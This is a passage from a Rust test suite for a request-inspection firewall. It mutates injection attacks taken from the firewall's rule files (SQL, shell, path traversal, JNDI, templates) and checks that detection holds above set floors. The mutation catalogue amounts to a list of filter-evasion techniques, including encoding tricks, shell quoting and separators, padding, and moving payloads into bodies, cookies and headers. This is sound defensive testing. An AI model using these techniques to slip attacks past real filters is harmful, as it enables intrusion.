            .then(|| [&[b'a'; 8192], text].concat())
    })),
    ("padding", "8 KiB behind it", Rewrite(|class, text| {
        matches!(class, Markup | Template | Jndi).then(|| [text, &[b'a'; 8192]].concat())
    })),
];

/// White space in place of spaces, in the languages that know no difference.
fn blanks(class: Class, text: &[u8], blank: &str) -> Option<Vec<u8>> {
    matches!(class, Sql | Markup | Php | Xml | Template | Code | NoSql)
        .then(|| replaced(text, " ", blank))?
}

/// Whether it is SQL that MySQL would run.
fn mysql(class: Class, text: &[u8]) -> bool {
    class == Sql && !text.windows(7).any(|window| window == b"waitfor")
}

fn shell_blanks(class: Class, text: &[u8], blank: &str) -> Option<Vec<u8>> {
    // Bash takes the head of a function definition, which Shellshock starts with, as it is only.
    (class == Shell && !text.starts_with(b"()")).then(|| replaced(text, " ", blank))?
}

fn shell_words(class: Class, text: &[u8], join: impl Fn(&str, &str) -> String) -> Option<Vec<u8>> {
    (class == Shell).then(|| words(text, &COMMANDS, |word| join(&word[..1], &word[1..])))?
}

fn shell_separators(class: Class, text: &[u8], separator: &str) -> Option<Vec<u8>> {
    (class == Shell && !text.starts_with(b"()")).then(|| replaced(text, ";", separator))?
}

fn steps(class: Class, text: &[u8], step: &str) -> Option<Vec<u8>> {
    (class == Path).then(|| replaced(text, "../", step))?
}

/// With other parameters around those that carry the payload.
fn beside(attack: &Attack, change: impl Fn(&mut Vec<Piece>) -> Option<()>) -> Option<Attack> {
    let mut attack = attack.clone();
    attack
        .pieces
        .iter()
        .all(|piece| piece.name.is_some())
        .then_some(())?;
    change(&mut attack.pieces)?;
    Some(attack)
}

fn in_json(
    attack: &Attack,
    string: impl Fn(&[u8]) -> Vec<u8>,
    before: &[u8],
    behind: &[u8],
) -> Option<Attack> {
    // JSON strings hold text.
    let text = attack
        .pieces
        .iter()
        .all(|piece| std::str::from_utf8(&piece.value).is_ok());
    (text && attack.class != Base64)
        .then(|| attack.revalued(|value| [before, &string(value), behind].concat()))?
}

fn in_base64(attack: &Attack, encode: impl Fn(&[u8]) -> Vec<u8>) -> Option<Attack> {
    (attack.class != Base64).then(|| attack.revalued(encode))?
}

impl Change {
    /// The text on the wire of a changed attack; nothing if the change does not apply.
    fn apply(&self, member: &str, attack: &Attack) -> Option<Vec<u8>> {
        match self {
            Spell(spelling) => {
                let text = attack.text(*spelling);
                (attack.place != Place::UserAgent && text != attack.text(least)).then_some(text)
            }
            Rewrite(rewrite) => {
                let changed = attack.rewritten(|text| rewrite(attack.class, text))?;
                // No client can send these in a header.
                let text = changed.text(least);
                (!text.iter().any(|byte| b"\r\n\0".contains(byte))).then_some(text)
            }
            Rearrange(rearrange) => {
                let spelling = match member {
                    "UTF-16" => utf16,
                    // What is a separator there has to be encoded.
                    "separated by ;" => no_semicolon,
                    _ => least,
                };
                Some(rearrange(attack)?.text(spelling))
            }
        }
    }
}

/// The engine with the rules that ship, and the attacks of their cases.
struct Bench {
    inspector: Inspector,
    attacks: Vec<Attack>,
}

impl Bench {
    fn open() -> Bench {
        let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules");
        let documents =
            portcullis_compiler::load_dir(&rules).unwrap_or_else(|error| panic!("{error}"));
        let compiled = backend::compile(&documents).unwrap_or_else(|errors| panic!("{errors:#?}"));
        let mut attacks = Vec::new();
        for document in &documents {
            let head = document.head();
            let path = Path::new(head.source.name());
            if path
                .parent()
                .and_then(Path::file_name)
                .is_none_or(|name| name != "injection")
            {
                continue;
            }
            let file = path.file_stem().and_then(|stem| stem.to_str()).unwrap();
            for case in &head.custom.catches {
                if let CaseEvent::Request(request) = &case.event
                    && request.body.is_none()
                {
                    attacks.push(Attack::of(file, &case.title, request));
                }
            }
        }
        let rules = RuleSet::open(compiled.bytes).expect("the compiler's own bytes open");
        Bench {
            inspector: Inspector::new(rules),
            attacks,
        }
    }

    /// The alert types of a request, and whether something was not looked at.
    fn ask(&mut self, place: Place, text: &[u8]) -> (Vec<u16>, bool) {
        let pairs: [(&[u8], &[u8]); 4] = match place {
            Place::Query | Place::Path => [
                (b":method", b"GET"),
                (b":path", text),
                (b"host", b"shop.example"),
                (b"user-agent", b"Mozilla/5.0"),
            ],
            Place::Referer => [
                (b":method", b"GET"),
                (b":path", b"/"),
                (b"Referer", text),
                (b"user-agent", b"Mozilla/5.0"),
            ],
            Place::UserAgent => [
                (b":method", b"GET"),
                (b":path", b"/"),
                (b"host", b"shop.example"),
                (b"User-Agent", text),
            ],
        };
        self.send(&pairs)
    }

    fn send(&mut self, pairs: &[(&[u8], &[u8])]) -> (Vec<u16>, bool) {
        let inspection = self.inspector.request(Headers::Pairs(pairs), &());
        let (detections, truncated) = (inspection.detections.to_vec(), inspection.truncated);
        let rules = self.inspector.rules();
        let mut alerts: Vec<u16> = detections
            .iter()
            .filter_map(|detection| Some(rules.rule(detection.rule)?.alert))
            .collect();
        alerts.dedup();
        (alerts, truncated)
    }
}

/// What became of the mutated attacks of one family and class.
#[derive(Clone, Copy, Default)]
struct Tally {
    applied: usize,
    found: usize,
    /// With an alert of the type that the attack has when it is not mutated.
    named: usize,
}

impl Tally {
    fn add(&mut self, other: Tally) {
        self.applied += other.applied;
        self.found += other.found;
        self.named += other.named;
    }

    fn share(self) -> f64 {
        100.0 * self.found as f64 / self.applied.max(1) as f64
    }
}

#[test]
fn mutated_attacks_are_still_found() {
    let mut bench = Bench::open();
    let mut table: BTreeMap<(&str, Class), Tally> = BTreeMap::new();
    let mut members: BTreeMap<(&str, &str), usize> = BTreeMap::new();
    let mut missed = String::new();
    for attack in bench.attacks.clone() {
        let (before, _) = bench.ask(attack.place, &attack.text(least));
        assert!(
            !before.is_empty(),
            "taken apart: {} {attack:?}",
            attack.title
        );
        for (family, member, change) in MUTATIONS {
            let Some(text) = change.apply(member, &attack) else {
                continue;
            };
            let (alerts, _) = bench.ask(attack.place, &text);
            *members.entry((family, member)).or_default() += 1;
            table.entry((family, attack.class)).or_default().add(Tally {
                applied: 1,
                found: usize::from(!alerts.is_empty()),
                named: usize::from(alerts.iter().any(|alert| before.contains(alert))),
            });
            if alerts.is_empty() {
                let text = String::from_utf8_lossy(&text);
                let shown: String = text.chars().take(160).collect();
                writeln!(missed, "{family}: {member}: {:?} {shown}", attack.class).unwrap();
            }
        }
    }
    for (family, member, _) in MUTATIONS {
        assert!(
            members.contains_key(&(*family, *member)),
            "{family}: {member}: applies to no attack, so it shows nothing"
        );
    }
    println!("{missed}");
    let mut total = Tally::default();
    let mut failures = Vec::new();
    println!(
        "{:24} {:10} {:>8} {:>8} {:>8} {:>9}",
        "family", "class", "applied", "found", "share", "named"
    );
    for (family, floor) in FLOORS {
        let mut sum = Tally::default();
        for class in Class::ALL {
            if let Some(&tally) = table.get(&(*family, class)) {
                line(family, &format!("{class:?}"), tally);
                sum.add(tally);
            }
        }
        line(family, "all", sum);
        total.add(sum);
        if sum.share() < *floor {
            failures.push(format!("{family}: {:.1} % < {floor} %", sum.share()));
        }
    }
    line("all", "all", total);
    let applied: usize = table.values().map(|tally| tally.applied).sum();
    assert_eq!(applied, total.applied, "a family has no floor");
    assert!(failures.is_empty(), "{failures:#?}");
    assert!(total.share() >= OVERALL_FLOOR, "{:.2} %", total.share());
    assert!(
        total.applied >= CASES_FLOOR,
        "{} mutated attacks",
        total.applied
    );
}

fn line(family: &str, class: &str, tally: Tally) {
    println!(
        "{family:24} {class:10} {:>8} {:>8} {:>6.1} % {:>9}",
        tally.applied,
        tally.found,
        tally.share(),
        tally.named
    );
}

/// The share of each family that must be found, in percent.
const FLOORS: &[(&str, f64)] = &[
    ("percent", 100.0),
    ("percent, repeated", 99.0),
    ("%u", 100.0),
    ("overlong UTF-8", 99.0),
    ("full width", 99.0),
    ("letter case", 100.0),
    ("white space", 100.0),
    ("SQL comments", 100.0),
    ("SQL equivalents", 100.0),
    ("HTML entities", 100.0),
    ("script escapes", 100.0),
    ("script equivalents", 100.0),
    ("shell white space", 100.0),
    ("shell quoting", 100.0),
    ("shell separators", 100.0),
    ("paths", 100.0),
    ("NULs", 100.0),
    ("charsets", 85.0),
    ("hosts", 100.0),
    ("lookups", 100.0),
    ("templates", 100.0),
    ("PHP", 95.0),
    ("JSON", 98.0),
    ("Base64", 96.0),
    ("Base64, repeated", 95.0),
    ("parameters", 99.0),
    ("padding", 100.0),
];

/// Past the limit nothing is inspected, and the inspection says so.
#[test]
fn a_payload_past_the_limit_is_reported_as_truncated() {
    let mut bench = Bench::open();
    let mut checked = 0;
    for attack in bench.attacks.clone() {
        if attack.pieces.iter().any(|piece| piece.name.is_none()) {
            continue;
        }
        let padded = Attack {
            before: [
                &attack.before[..],
                b"pad=",
                &vec![b'a'; limits::FIELD_BYTES],
                b"&",
            ]
            .concat(),
            ..attack.clone()
        };
        let (_, truncated) = bench.ask(attack.place, &padded.text(least));
        assert!(truncated, "{}", attack.title);
        checked += 1;
    }
    assert!(checked > 100, "{checked}");
}

/// How the parameters of an attack are put into a body: the media type, a coding, and the bytes.
type Body = (&'static str, &'static str, Vec<u8>);

fn text_of(bytes: &[u8]) -> Option<&str> {
    std::str::from_utf8(bytes).ok()
}

/// `"…"` in JSON.
fn json_quoted(text: &[u8]) -> Vec<u8> {
    [b"\"", &json_string(text)[..], b"\""].concat()
}

fn json_document(attack: &Attack) -> Option<Vec<u8>> {
    let mut members = Vec::new();
    for piece in &attack.pieces {
        text_of(&piece.value)?;
        let name = piece.name.as_deref().unwrap_or(b"q");
        members.push([json_quoted(name), b":".to_vec(), json_quoted(&piece.value)].concat());
    }
    Some([&b"{\"a\":{"[..], &members.join(&b','), b"}}"].concat())
}

fn form(attack: &Attack) -> Vec<u8> {
    Attack {
        before: Vec::new(),
        ..attack.clone()
    }
    .text(least)
}

fn zipped(body: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(body).unwrap();
    encoder.finish().unwrap()
}

/// Puts an attack into a body, if one of this kind can hold it.
type Put = fn(&Attack) -> Option<Body>;

/// The places in a body, by name.
#[rustfmt::skip]
const BODIES: &[(&str, Put)] = &[
    ("form", |attack| Some(("application/x-www-form-urlencoded", "", form(attack)))),
    ("form, gzip", |attack| Some(("application/x-www-form-urlencoded", "gzip", zipped(&form(attack))))),
    ("form, no media type", |attack| Some(("", "", form(attack)))),
    ("JSON", |attack| Some(("application/json", "", json_document(attack)?))),
    ("JSON, gzip", |attack| Some(("application/json", "gzip", zipped(&json_document(attack)?)))),
    ("JSON as a file", |attack| Some(("application/octet-stream", "", json_document(attack)?))),
    ("JSON in UTF-16", |attack| {
        let json = json_document(attack)?;
        let units = text_of(&json)?.encode_utf16();
        Some(("application/json; charset=utf-16", "", units.flat_map(u16::to_be_bytes).collect()))
    }),
    ("GraphQL", |attack| {
        let [Piece { name: Some(name), value }] = &attack.pieces[..] else { return None };
        (is_name(name) && text_of(value).is_some()).then_some(())?;
        let document = [b"{ a(b: ", &json_quoted(value)[..], b") { c } }"].concat();
        Some(("application/json", "", [b"{\"query\":", &json_quoted(&document)[..], b"}"].concat()))
    }),
    ("multipart", |attack| {
        let mut body = Vec::new();
        for piece in &attack.pieces {
            let name = piece.name.as_deref().unwrap_or(b"q");
            body.extend(b"--X\r\nContent-Disposition: form-data; name=\"");
            body.extend(name.iter().filter(|byte| **byte != b'"'));
            body.extend(b"\"\r\n\r\n");
            body.extend(&piece.value);
            body.extend(b"\r\n");
        }
        Some(("multipart/form-data; boundary=X", "", body))
    }),
    ("XML", |attack| {
        let mut body = b"<?xml version=\"1.0\"?><a>".to_vec();
        for piece in &attack.pieces {
            // A payload in a name is no XML.
            piece.name.as_deref().is_none_or(is_name).then_some(())?;
            let value = text_of(&piece.value)?;
            let value = value.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            body.extend(format!("<b>{value}</b>").bytes());
        }
        body.extend(b"</a>");
        Some(("text/xml", "", body))
    }),
];

/// What is an attack in a query is one in a body of any form.
#[test]
fn attacks_in_bodies_are_found() {
    let mut bench = Bench::open();
    let (mut applied_in_all, mut found_in_all) = (0, 0);
    let mut failures = Vec::new();
    println!(
        "{:24} {:>8} {:>8} {:>8}",
        "place", "applied", "found", "share"
    );
    for (place, put) in BODIES {
        let (mut applied, mut found) = (0, 0);
        for attack in bench.attacks.clone() {
            if attack.place != Place::Query {
                continue;
            }
            let Some((media_type, coding, body)) = put(&attack) else {
                continue;
            };
            let stem = attack.before.strip_suffix(b"?").unwrap_or(&attack.before);
            let pairs: [(&[u8], &[u8]); 4] = [
                (b":method", b"POST"),
                (b":path", stem),
                (b"content-type", media_type.as_bytes()),
                (b"content-encoding", coding.as_bytes()),
            ];
            let head = match media_type {
                "" => &pairs[..2],
                _ => &pairs[..],
            };
            let head = Headers::Pairs(head);
            applied += 1;
            let is_found = portcullis::body::Request::new(head, &body).is_some_and(|request| {
                let inspection = bench.inspector.body(head, &request, &());
                !inspection.detections.is_empty()
            });
            found += usize::from(is_found);
            if !is_found {
                println!(
                    "  missed: {place}: {:?} {}",
                    attack.class,
                    body.escape_ascii()
                );
            }
        }
        let share = 100.0 * found as f64 / f64::from(applied.max(1));
        println!("{place:24} {applied:>8} {found:>8} {share:>6.1} %");
        if share < BODY_FLOOR {
            failures.push(format!("{place}: {share:.1} %"));
        }
        applied_in_all += applied;
        found_in_all += found;
    }
    println!("{:24} {applied_in_all:>8} {found_in_all:>8}", "all");
    assert!(failures.is_empty(), "{failures:#?}");
    assert!(applied_in_all > 1_000, "{applied_in_all}");
}

/// The share of attacks that must be found in each kind of body, in percent.
const BODY_FLOOR: f64 = 97.0;

/// How the value of an attack is put into a header: its name and value, if that can hold it.
type Carry = fn(&[u8]) -> Option<(&'static [u8], Vec<u8>)>;

fn encoded(value: &[u8], is_plain: fn(u8) -> bool) -> Vec<u8> {
    let mut out = Vec::new();
    for &byte in value {
        match is_plain(byte) {
            true => out.push(byte),
            false => out.extend(format!("%{byte:02X}").bytes()),
        }
    }
    out
}

fn cookie(value: Vec<u8>) -> Option<(&'static [u8], Vec<u8>)> {
    let cookies = [&b"session=0f1e2d3c; id="[..], &value, b"; theme=light"].concat();
    Some((b"cookie", cookies))
}

/// The headers, by name, and the share of attacks that must be found there, in percent.
const CARRIERS: &[(&str, Carry, f64)] = &[
    (
        "cookie",
        |value| {
            cookie(encoded(value, |byte| {
                byte.is_ascii_graphic() && byte != b';' && byte != b'%'
            }))
        },
        75.0,
    ),
    (
        "cookie, all encoded",
        |value| cookie(encoded(value, |byte| byte.is_ascii_alphanumeric())),
        75.0,
    ),
    (
        "header",
        |value| {
            let is_sent = |byte: &u8| *byte >= b' ';
            (value.len() >= 16 && value.iter().all(is_sent))
                .then(|| (&b"x-forwarded-for"[..], value.to_vec()))
        },
        65.0,
    ),
];

/// What is an attack in a query is mostly one in a cookie or in another header, where only telling values are looked at.
#[test]
fn attacks_in_cookies_and_headers_are_found() {
    let mut bench = Bench::open();
    let mut failures = Vec::new();
    for (name, carry, floor) in CARRIERS {
        let (mut applied, mut found) = (0, 0);
        for attack in bench.attacks.clone() {
            let ([Piece { value, .. }], Place::Query) = (&attack.pieces[..], attack.place) else {
                continue;
            };
            // What is in a name, or wrapped once more, is not looked for there.
            if value.len() < 4 || attack.class == Class::Base64 {
                continue;
            }
            let Some((header, text)) = carry(value) else {
                continue;
            };
            applied += 1;
            let (alerts, _) =
                bench.send(&[(b":path", b"/"), (b":method", b"GET"), (header, &text)]);
            found += usize::from(!alerts.is_empty());
            if alerts.is_empty() {
                println!(
                    "  missed: {name}: {:?} {}",
                    attack.class,
                    text.escape_ascii()
                );
            }
        }
        let share = 100.0 * f64::from(found as u32) / f64::from(applied.max(1));
        println!("{name:24} {applied:>8} {found:>8} {share:>6.1} %");
        if share < *floor {
            failures.push(format!("{name}: {share:.1} %"));
        }
        assert!(applied > 50, "{name}: {applied}");
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

/// Names of headers are the same in any case, and the second header of a name counts as well.
#[test]
fn the_names_of_headers_hide_nothing() {
    let mut bench = Bench::open();
    let mut checked = 0;
    for attack in bench.attacks.clone() {
        let text = attack.text(least);
        let (names, clean): ([&[u8]; 3], &[u8]) = match attack.place {
            Place::Referer => ([b"REFERER", b"rEfErEr", b"referer"], b"https://a.example/"),
            Place::UserAgent => (
                [b"USER-AGENT", b"uSeR-aGeNt", b"user-agent"],
                b"Mozilla/5.0",
            ),
            Place::Query | Place::Path => continue,
        };
        for name in names {
            let (alone, _) = bench.send(&[(b":path", b"/"), (name, &text)]);
            assert!(
                !alone.is_empty(),
                "{} in {}",
                attack.title,
                String::from_utf8_lossy(name)
            );
            let (second, _) = bench.send(&[(b":path", b"/"), (name, clean), (name, &text)]);
            assert!(!second.is_empty(), "{} in a second header", attack.title);
            checked += 2;
        }
    }
    assert!(checked > 60, "{checked}");
}
